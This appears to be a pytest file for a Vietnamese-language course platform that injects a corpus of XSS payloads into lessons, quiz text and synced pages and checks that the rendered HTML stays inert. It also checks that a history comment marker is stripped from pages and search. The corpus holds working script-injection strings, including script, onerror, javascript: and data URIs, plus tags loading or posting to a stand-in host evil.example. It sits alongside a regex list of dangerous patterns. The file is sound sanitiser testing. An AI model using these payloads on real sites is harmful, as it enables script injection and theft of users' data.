"""An XSS corpus placed in a course renders with nothing executable."""

from __future__ import annotations

import re

import pytest

from onetouch.content.library import load_library
from onetouch.content.render import render_inline
from tests.fixtures.courses import edit

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">bấm vào đây</a>',
    '<a href="JaVaScRiPt:alert(1)">hoa thường</a>',
    '<a href="&#106;avascript:alert(1)">thực thể</a>',
    "[liên kết markdown](javascript:alert(1))",
    "[dữ liệu](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<div style="background:url(javascript:alert(1))">kiểu</div>',
    '<form action="https://evil.example"><input name="otp"></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<p onclick="alert(1)" onmouseover="alert(1)">sự kiện</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
]

DANGEROUS = [
    re.compile(r"<\s*(script|iframe|object|embed|svg|math|form|input|meta|base|link|style)\b",
               re.I),
    re.compile(r"\son[a-z]+\s*=", re.I),
    re.compile(r"javascript:", re.I),
    re.compile(r"data:text", re.I),
    re.compile(r"\sstyle\s*=", re.I),
]


def assert_inert(html: str) -> None:
    for pattern in DANGEROUS:
        assert not pattern.search(html), (pattern.pattern, html)


def test_corpus_in_a_lesson_renders_inert(course_dir):
    edit(course_dir / "02-thuc-hanh.md", "## Các bước", "\n\n".join(CORPUS) + "\n\n## Các bước")
    library = load_library(course_dir.parent)
    assert library.problems == []
    html = library.courses[0].modules[1].rendered.html
    assert_inert(html)
    assert "bấm vào đây" in html  # the text stays, the link target goes
    assert "Bài này hướng dẫn các bước" in html


@pytest.mark.parametrize("payload", CORPUS)
def test_corpus_in_quiz_text_renders_inert(payload):
    assert_inert(render_inline(payload))


def test_corpus_in_a_synced_lesson_page(client, runner, course_dir):
    edit(course_dir / "02-thuc-hanh.md", "## Các bước", "\n\n".join(CORPUS) + "\n\n## Các bước")
    assert runner.invoke(args=["courses", "sync", str(course_dir.parent)]).exit_code == 0
    page = client.get("/courses/mau-khoa-hoc/thuc-hanh").get_data(as_text=True)
    body = page[page.index('<div class="lesson-body">'):page.index("</article>")]
    assert_inert(body)


HISTORY = ("Năm 2022, khi đó cả nước có 63 tỉnh. <!-- history -->\n\n"
           "- Một mục <!-- history -->\n\n"
           "| Năm | Số tỉnh |\n|---|---|\n| 2022 | 63 <!-- history --> |\n\n")


def test_the_history_marker_never_reaches_the_page_or_the_search_index(client, course_dir,
                                                                     synced_library):
    edit(course_dir / "02-thuc-hanh.md", "## Các bước", HISTORY + "## Các bước")
    library = load_library(course_dir.parent)
    assert library.problems == []
    module = library.courses[0].modules[1]
    assert "cả nước có 63 tỉnh." in module.rendered.html
    for text in (module.rendered.html, module.rendered.plain_text):
        assert "history" not in text
        assert "<!--" not in text
    synced_library()
    found = client.get("/search?q=so+tinh").get_data(as_text=True)
    assert "Thực hành nộp hồ sơ" in re.sub(r"</?mark>", "", found)  # matched words are marked
    assert "Không tìm thấy" in client.get("/search?q=history").get_data(as_text=True)
